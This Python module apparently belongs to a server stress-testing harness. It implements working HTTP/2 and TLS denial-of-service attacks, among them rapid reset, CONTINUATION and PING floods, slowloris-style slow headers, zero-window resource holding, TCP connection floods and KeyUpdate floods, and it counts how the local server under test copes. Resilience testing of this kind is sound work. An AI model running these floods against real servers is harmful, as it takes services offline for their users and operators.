"""The attacks: each is a function that goes on until its time is over. Run as a process of its own:

    python3 -m strain.attacks NAME PORT SECONDS

Prints `begun`, later a line of JSON with what was done. Attacks that hold something then stay, until they are killed,
so that what the server still holds for them a minute later is the server's doing.
"""

import json
import select
import socket
import ssl
import sys
import threading
import time

from . import wire
from .wire import (CONTINUATION, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, SETTINGS, WINDOW_MAX,
                   frame, get, reset, window_update)

# Which of the server's files: one that no window holds, one of a few records, a directory of 10,000 entries.
BIG, MIDDLE, MANY = "/big.bin", "/64k.bin", "/many/"

# Floods come on so many connections at once: enough that the server always has one to read from.
FLOODING = 4


class Attack:
    def __init__(self, port, seconds):
        self.port, self.until = port, time.monotonic() + seconds
        self.lock, self.counts = threading.Lock(), {}

    @property
    def goes_on(self):
        return time.monotonic() < self.until

    def count(self, what, by=1):
        with self.lock:
            self.counts[what] = self.counts.get(what, 0) + by

    def connect(self, *settings, http2=True, **options):
        """A connection that is counted; None when the server does not give one."""
        try:
            stream = wire.http2(self.port, *settings, **options) if http2 else wire.tls(self.port, **options)
        except wire.NoHttp2:
            raise
        except OSError:
            self.count("refused")
            time.sleep(0.01)
            return None
        self.count("connections")
        return stream

    def hold(self, number, *settings, **options):
        """So many connections; fewer if the server refuses some."""
        held = []
        for _ in range(number):
            if (stream := self.connect(*settings, **options)) is not None:
                held.append(stream)
        return held

    def done(self):
        """The attack is over; what was done is told."""
        print(json.dumps(self.counts), flush=True)


def stay(work=None, pause=1.0):
    """Until this process is killed."""
    while True:
        if work:
            work()
        time.sleep(pause)


def take(stream):
    """Reads what is there without waiting. Gives the bytes, and whether the server has ended the connection."""
    stream.settimeout(0)
    got = b""
    try:
        while len(got) < 1 << 20:
            part = stream.recv(65536)
            if not part:
                return got, True
            got += part
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        pass
    except OSError:
        return got, True
    return got, False


def push(attack, stream, data, taking=True):
    """Sends all of it, however long the server makes us wait, as long as the attack goes on. Gives whether the
    connection is still good."""
    view = memoryview(data)
    while view and attack.goes_on:
        stream.settimeout(0.1)
        try:
            # In steps of a record: what could not be sent must be offered again as it was.
            sent = stream.send(view[:16384])
            view = view[sent:]
            attack.count("bytes", sent)
        except TimeoutError:
            pass
        except OSError:
            return False
        if taking:
            got, ended = take(stream)
            # Whether a frame begins there does not matter much: the type GOAWAY is followed by flags and stream 0.
            if ended or b"\x07\x00\x00\x00\x00\x00" in got[:4096]:
                return False
    return True


def flood(attack, opening, burst, *settings, taking=True):
    """On each of a few connections: `opening`, then `burst(n)` for n = 0, 1, ... without end; again from the start
    when the server has cut it."""
    def one():
        while attack.goes_on:
            stream = attack.connect(*settings)
            if stream is None:
                continue
            number, good = 0, push(attack, stream, opening, taking)
            while good and attack.goes_on:
                good = push(attack, stream, burst(number), taking)
                number += 1
            if not good:
                attack.count("cut")
            stream.close()
    together(one)
    attack.done()


def together(one, number=FLOODING):
    threads = [threading.Thread(target=one, daemon=True) for _ in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


# ---- what is held ----

CONNECTIONS = 100


def shut_windows(attack):
    """Each connection asks for 10 large files and never opens a window again. It stays, and pings."""
    held = attack.hold(CONNECTIONS)
    for stream in held:
        push(attack, stream, b"".join(get(1 + 2 * n, BIG) for n in range(10)))

    def ping():
        for stream in held[:]:
            _, ended = take(stream)
            try:
                stream.settimeout(0.1)
                stream.send(frame(PING, 0, 0, b"are you?"))
            except OSError:
                ended = True
            if ended:
                held.remove(stream)
                attack.count("cut")
                stream.close()
    while attack.goes_on:
        ping()
        time.sleep(1)
    attack.done()
    stay(ping)


def dead_clients(attack):
    """Like `shut-windows`, but each has ended its direction: half with close_notify and FIN, half with FIN alone. The
    sockets stay open in the other direction, unread."""
    held = attack.hold(CONNECTIONS)
    for stream in held:
        push(attack, stream, b"".join(get(1 + 2 * n, BIG) for n in range(10)))
    time.sleep(0.5)
    for number, stream in enumerate(held):
        take(stream)
        if number % 2:
            try:
                stream.settimeout(0)
                stream.unwrap()
            except OSError:
                pass
        try:
            socket.socket.shutdown(stream, socket.SHUT_WR)
        except OSError:
            pass
    while attack.goes_on:
        time.sleep(0.1)
    attack.done()
    stay()


def zero_windows(attack):
    """Streams without any window: 128 requests a connection, every second one for a long listing."""
    held = attack.hold(50, (INITIAL_WINDOW_SIZE, 0))
    for stream in held:
        push(attack, stream, b"".join(get(1 + 2 * n, MANY if n % 2 else BIG) for n in range(128)))
        attack.count("requests", 128)
    while attack.goes_on:
        for stream in held:
            take(stream)
        time.sleep(0.2)
    attack.done()
    # The connections end with this process.


def slow_heads(attack):
    """500 connections begin a request and send a byte of it a second."""
    held = []
    for stream in attack.hold(500, http2=False):
        stream.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        held.append(stream)

    def drip():
        for stream in held[:]:
            try:
                stream.settimeout(0.1)
                stream.send(b"x")
            except OSError:
                held.remove(stream)
                attack.count("cut")
                stream.close()
    while attack.goes_on:
        drip()
        time.sleep(1)
    attack.done()
    stay(drip)


def trickling_readers(attack):
    """200 connections ask for a large file and take a byte of the ciphertext every second, with the smallest buffers."""
    held = []
    for stream in attack.hold(200, http2=False, buffer=4096, segment=536):
        stream.send(f"GET {BIG} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
        # The socket below TLS: nothing of the reply is ever decrypted.
        held.append(socket.socket(fileno=stream.detach()))

    def sip():
        for raw in held[:]:
            raw.settimeout(0)
            try:
                ended = not raw.recv(1)
            except BlockingIOError:
                ended = False
            except OSError:
                ended = True
            if ended:
                held.remove(raw)
                attack.count("cut")
                raw.close()
    while attack.goes_on:
        sip()
        time.sleep(1)
    attack.done()
    stay(sip)


# ---- who comes too often, or does not leave ----

def connection_flood(attack):
    """3,000 TCP connections that say nothing, opened again when the server ends them; beside them, connections that are
    reset as soon as they are open, as many as go."""
    def reset_at_once():
        while attack.goes_on:
            try:
                raw = wire.tcp(attack.port, within=1)
            except OSError:
                attack.count("refused")
                time.sleep(0.01)
                continue
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
            raw.close()
            attack.count("reset at once")

    def hold():
        held, poll = {}, select.poll()
        while attack.goes_on:
            while len(held) < 3000 and attack.goes_on:
                try:
                    raw = wire.tcp(attack.port, within=1)
                except OSError:
                    attack.count("refused")
                    break
                held[raw.fileno()] = raw
                poll.register(raw, select.POLLIN)
                attack.count("connections")
            for number, _ in poll.poll(50):
                poll.unregister(number)
                held.pop(number).close()
                attack.count("cut")
    silent = threading.Thread(target=hold, daemon=True)
    silent.start()
    together(reset_at_once, 2)
    silent.join()
    attack.done()


def full_house(attack):
    """Four times as many clients as the server takes: each makes one request and keeps its connection; who is turned
    away or let go comes back at once."""
    def crowd():
        held, poll = {}, select.poll()
        while attack.goes_on:
            try:
                stream = wire.tls(attack.port, within=0.5)
                stream.sendall(b"GET /4k.bin HTTP/1.1\r\nHost: localhost\r\n\r\n")
                attack.count("connections")
                held[stream.fileno()] = stream
                poll.register(stream, select.POLLRDHUP | select.POLLHUP)
                if len(held) > 256:
                    number, stream = next(iter(held.items()))
                    poll.unregister(number)
                    held.pop(number).close()
            except OSError:
                attack.count("refused")
            for number, _ in poll.poll(0):
                poll.unregister(number)
                held.pop(number).close()
                attack.count("cut")
    together(crowd, 4)
    attack.done()


# ---- frames ----

def settings_flaps(attack):
    """128 streams, and then SETTINGS frames of 2,730 changes of the window each: 0 and 1 in turn."""
    flap = frame(SETTINGS, 0, 0, b"".join(bytes([0, 4, 0, 0, 0, turn % 2]) for turn in range(2730)))
    opening = window_update(0, WINDOW_MAX - 65_535) + b"".join(get(1 + 2 * n, BIG) for n in range(128))
    flood(attack, opening, lambda _: flap + window_update(1, 1), (INITIAL_WINDOW_SIZE, 0))


def requested_and_reset(path, at_once, words):
    def attack_with(attack):
        def burst(number):
            first = 1 + 2 * at_once * number
            return b"".join(get(first + 2 * n, path) + reset(first + 2 * n) for n in range(at_once))
        flood(attack, b"", burst)
    attack_with.__doc__ = words
    return attack_with


def ping_flood(attack):
    """PINGs, 950 a record, without end."""
    pings = frame(PING, 0, 0, b"12345678") * 950  # a full record
    flood(attack, b"", lambda _: pings)


def continuation_flood(attack):
    """A field section that never ends, on every second connection in CONTINUATION frames that are empty."""
    fields = frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 3200)
    empty = frame(CONTINUATION, 0, 1) * 1800
    opening = frame(HEADERS, END_STREAM, 1, wire.block("/"))
    turn = iter(range(1 << 62))

    def burst_of(kind):
        return lambda _: fields if kind else empty

    def one():
        while attack.goes_on:
            stream = attack.connect()
            if stream is None:
                continue
            burst = burst_of(next(turn) % 2)
            good = push(attack, stream, opening)
            while good and attack.goes_on:
                good = push(attack, stream, burst(0))
            if not good:
                attack.count("cut")
            stream.close()
    together(one)
    attack.done()


def key_updates(attack):
    """KeyUpdates that ask for one in return, nothing read. A PING in between: libraries count those without data."""
    openssl = wire.Openssl()

    def one():
        while attack.goes_on:
            try:
                connection = wire.KeyUpdating(openssl, attack.port)
            except OSError:
                attack.count("refused")
                time.sleep(0.01)
                continue
            attack.count("connections")
            good = connection.write(wire.PREFACE + wire.settings())
            while good and attack.goes_on:
                done = 0
                while good and done < 30:
                    good = connection.update_key()
                    done += good
                attack.count("key updates", done)
                good = good and connection.write(frame(PING, 0, 0, b"12345678"))
            if not good:
                attack.count("cut")
            connection.close()
    together(one)
    attack.done()


ATTACKS = {
    "shut-windows": shut_windows,
    "dead-clients": dead_clients,
    "zero-windows": zero_windows,
    "settings-flaps": settings_flaps,
    "rapid-reset": requested_and_reset(MIDDLE, 100, "A file of 64 KiB requested and reset at once, 100 times a burst."),
    "listings-reset": requested_and_reset(MANY, 25, "A listing of 10,000 entries requested and reset at once, 25 times a burst."),
    "slow-heads": slow_heads,
    "trickling-readers": trickling_readers,
    "connection-flood": connection_flood,
    "full-house": full_house,
    "key-updates": key_updates,
    "continuation-flood": continuation_flood,
    "ping-flood": ping_flood,
}

# The number of connections that servers are told to keep: only one attack is about it.
CONNECTIONS_MAX = {"full-house": 256}
CONNECTIONS_MAX_OTHERWISE = 8192

# How long after the attack the last look is taken, where the attacker stays and may do so for longer than a minute: a stream
# that stands still has 60 s, and the connection another 60 s for its next request; a rate is judged over spans of 60 s.
LOOK_AFTER = {"shut-windows": 135, "trickling-readers": 135}


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    print("begun", flush=True)
    try:
        ATTACKS[name](Attack(port, seconds))
    except wire.NoHttp2:
        sys.exit("the server has no HTTP/2")


if __name__ == "__main__":
    main()
